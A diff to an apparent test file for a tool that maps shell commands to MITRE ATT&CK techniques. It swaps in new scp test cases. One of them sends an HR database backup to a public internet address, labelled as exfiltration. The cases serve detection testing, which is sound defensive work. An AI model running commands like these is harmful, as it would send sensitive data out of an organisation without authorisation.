@@ -35,9 +35,9 @@ def first(engine: MappingEngine, command: str) -> str:
             "T1570",
         ),
         # an archive copied over ssh to an address on the internet: exfiltration
-        ("scp /srv/drop/crm_export.tar.gz op@91.106.59.129:/drop/", "T1048.002"),
-        # the same copy inside the private network stays a lateral tool transfer
-        ("scp /srv/drop/crm_export.tar.gz op@172.24.9.10:/drop/", "T1570"),
+        ("scp -P 2222 /var/backups/hr.sql.gz u@185.220.101.7:/incoming/", "T1048.002"),
+        # a tool copied inside the private network stays a lateral tool transfer
+        ("scp -P 2222 /opt/tools/agent u@172.24.9.10:/tmp/", "T1570"),
         # an archive made with options before the create flag
         ("tar -P -zcf /tmp/s.tgz /home/bob/docs", "T1560.001"),
         # open windows listed by title
